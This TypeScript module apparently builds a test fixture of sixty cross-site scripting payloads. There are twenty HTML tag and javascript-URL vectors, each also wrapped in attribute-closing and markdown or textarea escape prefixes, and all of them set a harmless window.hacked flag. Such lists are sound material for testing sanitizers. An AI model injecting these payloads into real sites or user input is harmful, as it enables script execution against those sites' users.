/** Sixty texts that run something where a page takes them for markup; each would set `window.hacked`. */
const RUN = "window.hacked=1";
const TAGS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<math><mtext></mtext><img src=x onerror="${RUN}"></math>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button onclick="${RUN}" autofocus>x</button>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
] as const;

/** Each tag as it is, after what would end an attribute, and after what would end a block of markdown. */
export const PAYLOADS: readonly string[] = TAGS.flatMap((tag) => [
  tag,
  `"'>${tag}<!--`,
  `\`\`\`\n[x](javascript:${RUN})\n\`\`\`\n</textarea></pre></title>${tag}`,
]);
